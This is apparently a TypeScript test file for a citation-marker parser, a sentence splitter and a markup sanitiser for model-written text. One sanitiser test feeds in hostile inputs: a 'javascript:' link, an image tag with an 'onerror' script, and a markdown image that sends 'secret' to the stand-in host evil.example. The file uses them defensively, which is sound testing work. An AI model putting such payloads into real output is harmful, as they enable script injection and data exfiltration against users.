import fc from 'fast-check';
import { expect, test } from 'vitest';
import { plainMarkup } from './plain-markup.ts';
import { readMarkers } from './read-markers.ts';
import { splitSentences } from './split-sentences.ts';

const citations = (text: string) => splitSentences(text).map((sentence) => sentence.citations);

test('markers are read in the forms that models write', () => {
  expect(citations('One [1]. Two.[2][3] Three [1, 3]. Four [2-4]. Five【5】.')).toEqual([
    [1],
    [2, 3],
    [1, 3],
    [2, 3, 4],
    [5],
  ]);
  expect(citations('One [Source 1]. Two [sections 2 and 3]. Three [^4]. Four [§ 5].')).toEqual([
    [1],
    [2, 3],
    [4],
    [5],
  ]);
});

test('a marker behind the point belongs to the sentence before it', () => {
  expect(splitSentences('Boards vote. [1] Owners watch. [2]')).toEqual([
    { text: 'Boards vote.', citations: [1] },
    { text: 'Owners watch.', citations: [2] },
  ]);
});

test('what is in brackets and is no marker stays', () => {
  const text = 'Dear [Name], [see 1.] [[1] [1234] [] [1; drop] [a, 1]';
  expect(readMarkers(text)).toEqual({
    text: 'Dear [Name], [see 1.] [ [1234] [] [1; drop] [a, 1]',
    markers: [{ at: 23, numbers: [1] }],
  });
});

test('a range names a bounded number of sections', () => {
  expect(citations('All of it [1-999].')[0]).toHaveLength(12);
  expect(citations('Backwards [9-2].')).toEqual([[]]);
});

test('abbreviations and codes end no sentence', () => {
  const sentence =
    'Read Cal. Civ. Code § 5550 and Fla. Stat. § 720.303, e.g. with J. Smith of Acme Inc. soon.';
  expect(splitSentences(`${sentence} Then vote!`).map(({ text }) => text)).toEqual([
    sentence,
    'Then vote!',
  ]);
});

test('markup leaves its words: no tag, no image, no address', () => {
  expect(plainMarkup('<b>Pay</b> **now** at [this page](javascript:alert(1)) `x`')).toBe(
    ' Pay  now at this page) x',
  );
  expect(
    plainMarkup('![pixel](https://evil.example/?q=secret)Hi<img src=x onerror=alert(1)>'),
  ).toBe(' Hi ');
  expect(plainMarkup('Due in 30 days [1](https://evil.example).')).toBe('Due in 30 days [1].');
  expect(plainMarkup('5 < 6 and a * b * c')).toBe('5 < 6 and a * b * c');
});

const hostile = fc.string({
  unit: fc.constantFrom('[', ']', '(', ')', '!', '<', '>', '1', ',', '-', '.', ' ', 'A', '"', '*'),
  maxLength: 400,
});

test('any text is read without an error, and markers lie inside it in order', () => {
  fc.assert(
    fc.property(fc.oneof(hostile, fc.string({ unit: 'grapheme' })), (source) => {
      const { text, markers } = readMarkers(plainMarkup(source));
      expect(text.length).toBeLessThanOrEqual(3 * source.length);
      const places = markers.map(({ at }) => at);
      expect(places).toEqual([...places].sort((a, b) => a - b));
      expect(places.every((at) => at <= text.length)).toBe(true);
      for (const { numbers } of markers) expect(numbers.length).toBeLessThanOrEqual(12);
      splitSentences(source);
    }),
  );
});
